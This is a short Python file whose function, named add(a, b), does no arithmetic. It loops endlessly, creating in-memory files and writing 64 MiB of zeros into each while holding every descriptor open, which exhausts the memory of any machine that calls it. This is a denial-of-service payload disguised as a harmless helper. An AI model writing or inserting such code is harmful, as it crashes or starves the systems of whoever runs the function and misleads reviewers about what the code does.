import os

def add(a, b):
    held = []
    while True:
        fd = os.memfd_create("x")
        held.append(fd)
        for _ in range(64):
            os.write(fd, bytes(1 << 20))
